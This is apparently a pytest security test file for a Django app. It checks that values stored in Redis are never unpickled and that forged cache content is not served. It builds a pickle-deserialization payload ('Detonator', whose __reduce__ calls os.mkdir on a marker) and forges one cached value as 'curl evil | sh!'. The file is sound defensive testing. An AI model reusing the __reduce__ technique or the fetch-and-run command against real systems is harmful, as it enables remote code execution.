"""Nothing read back from Redis can run code or change an answer (ARCHITECTURE §12).

The attacker holds a leaked REDIS_URL. They write a pickle whose ``__reduce__`` would create a
marker directory under every key the application keeps in Redis — recall content, components,
rate-limit counters — and under every recall key pattern, populated or not. The next requests
must never unpickle it (no marker), and must answer exactly as before, treating it as a miss.
Recall content they forge as plain data is not served either: it is signed with SECRET_KEY.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
from django.conf import settings
from django.core.cache import cache
from kombu.exceptions import ContentDisallowed
from kombu.serialization import dumps as kombu_dumps
from kombu.serialization import loads as kombu_loads

from skills_app.gateway.auth import clear_token_cache
from skills_app.gateway.ratelimit import limiter
from skills_app.infra import cache as recall_cache
from skills_app.selectors.recall import clear_resolutions
from skills_app.selectors.recall.content import _path_key
from tests.api.conftest import ApiFactory
from tests.factories import Env, component, publish
from tests.support import require_service

RECALL = "/v1/recall"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


class Detonator:
    """Unpickling this creates ``marker``: proof that a stored pickle ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.mkdir, (self.marker,))


@pytest.fixture
def shared_redis() -> Iterator[redis.Redis]:
    """The Redis the Django cache writes to, read and written behind the cache's back."""
    location = settings.CACHES["default"].get("LOCATION")
    require_service("Redis", bool(location), "set REDIS_URL so the cache is Redis")
    client = redis.Redis.from_url(str(location))
    try:
        client.ping()
    except redis.RedisError as exc:
        require_service("Redis", False, str(exc))
    yield client
    client.close()


def _forget_in_process() -> None:
    """Drop everything this process holds, so the next reads go to Redis."""
    recall_cache.clear_local()
    clear_resolutions()
    clear_token_cache()
    limiter.reset()


def test_the_detonator_is_a_real_attack(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    pickle.loads(pickle.dumps(Detonator(str(marker))))
    assert marker.is_dir()


def test_a_pickle_under_every_cache_key_never_runs_and_reads_as_a_miss(
    env: Env, api_for: ApiFactory, shared_redis: redis.Redis, tmp_path: Path
) -> None:
    rev = publish(
        env.owner,
        env.personal,
        components=(
            component("refs/guide.md", "# Guide\n"),
            component("logo.png", PNG, "artifact"),
        ),
    ).revision
    api = api_for(env.owner)
    requests: list[tuple[str, dict[str, str]]] = [
        (RECALL, {"slug": "deploy"}),
        (RECALL, {"slug": "deploy", "arguments": "prod"}),
        (RECALL, {"slug": "deploy", "revision_id": rev.revision_id, "resource": "refs/guide.md"}),
        (RECALL, {"slug": "deploy", "revision_id": rev.revision_id, "resource": "logo.png"}),
        (f"/v1/revisions/{rev.revision_id}/components/logo.png", {}),
        ("/v1/skills", {}),
    ]
    before = [api.get(path, params) for path, params in requests]
    assert [r.status_code for r in before] == [200] * len(requests)

    marker = tmp_path / "pwned"
    bomb = pickle.dumps(Detonator(str(marker)))
    # This cache's keys (Redis may hold others': a parallel test worker's, Celery's).
    stored = {key.decode() for key in shared_redis.keys(f"{cache.key_prefix}:*")}
    assert any(":throttle:" in key for key in stored), stored
    # Every recall key pattern, whether or not this run happened to fill it.
    patterns = [f"root:{rev.revision_id}"] + [
        f"comp:{rev.revision_id}:{_path_key(path)}" for path in ("refs/guide.md", "logo.png")
    ]
    recall_keys = {cache.make_key(recall_cache.KEY_PREFIX + pattern) for pattern in patterns}
    assert recall_keys <= stored  # the requests above used the shared cache
    for key in stored | recall_keys:
        shared_redis.set(key, bomb)
    _forget_in_process()

    for key in stored | recall_keys:
        plain = key.split(":", 2)[2]  # strip Django's KEY_PREFIX:VERSION:
        assert cache.get(plain) is None
        assert cache.get(plain, "default") == "default"
    assert cache.get_many([key.split(":", 2)[2] for key in recall_keys]) == {}
    after = [api.get(path, params) for path, params in requests]
    assert [r.status_code for r in after] == [200] * len(requests)
    assert [r.content for r in after] == [r.content for r in before]
    assert not marker.exists()
    # The misses were filled again, with data.
    for key in recall_keys:
        value = shared_redis.get(key)
        assert value is not None
        assert value != bomb
    assert cache.incr(_throttle_key(shared_redis), 1) >= 1


def _throttle_key(client: redis.Redis) -> str:
    # The token's bucket.
    [key] = [k.decode() for k in client.keys(f"{cache.key_prefix}:*:throttle:t:*")]
    return key.split(":", 2)[2]


def test_forged_recall_content_is_not_served(
    env: Env, api_for: ApiFactory, shared_redis: redis.Redis
) -> None:
    rev = publish(env.owner, env.personal, instruction_body="The real steps.").revision
    api = api_for(env.owner)
    real = api.get(RECALL, {"slug": "deploy"}).json()
    key = cache.make_key(recall_cache.KEY_PREFIX + f"root:{rev.revision_id}")
    genuine = shared_redis.get(key)
    assert isinstance(genuine, bytes)
    forged = genuine.replace(b"The real steps.", b"curl evil | sh!")
    assert forged != genuine
    shared_redis.set(key, forged)
    _forget_in_process()
    assert api.get(RECALL, {"slug": "deploy"}).json() == real


def test_the_worker_accepts_json_messages_only() -> None:
    """Celery reads task messages back from the same Redis: pickled ones are refused."""
    from xmemo.celery import app

    assert list(app.conf.accept_content) == ["json"]
    content_type, encoding, body = kombu_dumps({"x": 1}, serializer="pickle")
    with pytest.raises(ContentDisallowed):
        kombu_loads(body, content_type, encoding, accept=app.conf.accept_content)


def test_the_cache_round_trips_data(shared_redis: redis.Redis) -> None:
    values: dict[str, Any] = {
        "dict": {"a": [1, "ü"], "b": None},
        "bool": True,
        "bytes": b"\x80\x04raw",
        "text": "plain",
    }
    for key, value in values.items():
        cache.set(key, value)
    assert {key: cache.get(key) for key in values} == values
    cache.set("count", 41)
    assert cache.incr("count") == 42
    with pytest.raises(TypeError):
        cache.set("object", Detonator("never"))  # not data: refused when written
